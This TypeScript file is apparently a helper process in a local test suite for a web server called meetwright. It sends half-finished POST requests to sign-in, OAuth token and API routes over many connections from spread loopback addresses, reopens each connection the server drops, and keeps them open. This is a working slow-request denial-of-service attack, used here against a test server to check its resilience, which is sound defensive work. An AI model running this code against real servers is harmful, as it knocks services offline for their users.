// A process of the proof `half-sent`: keeps connections with half-sent requests open, until it is killed.
import { connect } from 'node:net'

/** The first argument, as JSON. */
export interface AttackOptions {
  readonly port: number
  readonly connections: number
  /** Of the network, as `127.0.1.1` and so on. */
  readonly addresses: number
  readonly token: string
}

/** To the parent, when each connection has been opened once. */
export type AttackMessage = 'opened'

/**
 * A connection that the server closes is opened again, at a limited rate. Without this limit, the attack would be a flood of
 * connections: each refused one would return at once.
 */
const OPENED_PER_SECOND = 1_000
const REOPENED_PER_SECOND = 200
const INTERVAL_MS = 20

const options = JSON.parse(process.argv[2] ?? '') as AttackOptions

/** Requests to mounts, pages and API rows, each cut in the middle of its body. */
const heads = [
  'POST /oauth/token HTTP/1.1\r\ncontent-type: application/x-www-form-urlencoded',
  'POST /sign-in HTTP/1.1\r\ncontent-type: application/x-www-form-urlencoded',
  `POST /groups HTTP/1.1\r\ncontent-type: application/json\r\nauthorization: Bearer ${options.token}`,
]

/** Connections to open. Those that the server closes are added at the end, so each is opened once before one is reopened. */
const closed = Array.from({ length: options.connections }, (_, number) => number)
let left = options.connections

function open(number: number): void {
  const localAddress = `127.0.1.${(number % options.addresses) + 1}`
  const socket = connect({ port: options.port, host: '127.0.0.1', localAddress })
  // The server may reset the connection.
  socket.on('error', () => undefined).resume()
  socket.once('close', () => closed.push(number))
  const head = heads[number % heads.length]
  socket.write(`${head}\r\nhost: meetwright.test\r\ncontent-length: 100\r\n\r\nhalf`)
}

setInterval(() => {
  const perSecond = left > 0 ? OPENED_PER_SECOND : REOPENED_PER_SECOND
  const numbers = closed.splice(0, (perSecond * INTERVAL_MS) / 1_000)
  for (const number of numbers) open(number)
  if (left > 0 && left <= numbers.length) process.send?.('opened' satisfies AttackMessage)
  left = Math.max(0, left - numbers.length)
}, INTERVAL_MS)
// The parent has exited.
process.once('disconnect', () => process.exit(1))
